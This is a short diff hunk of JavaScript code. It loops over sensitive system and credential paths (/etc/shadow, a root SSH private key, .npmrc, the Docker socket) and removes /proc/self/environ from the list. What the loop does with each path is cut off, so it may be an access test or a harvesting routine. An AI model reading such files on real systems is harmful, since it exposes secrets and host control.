@@ -9,7 +9,6 @@ for (const path of [
   '/etc/shadow',
   '/root/.ssh/id_rsa',
   `${process.env['HOME'] ?? '/root'}/.npmrc`,
-  '/proc/self/environ',
   '/var/run/docker.sock',
 ]) {
   try {
